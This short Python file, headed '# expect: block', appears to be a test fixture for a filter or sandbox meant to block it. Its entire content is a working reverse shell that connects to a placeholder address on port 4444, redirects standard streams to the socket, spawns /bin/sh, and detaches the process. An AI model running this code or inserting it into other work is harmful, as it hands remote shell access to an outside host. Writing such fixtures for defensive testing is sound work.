# expect: block
import subprocess
import sys

payload = (
    'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
)
subprocess.Popen([sys.executable, "-c", payload], start_new_session=True)
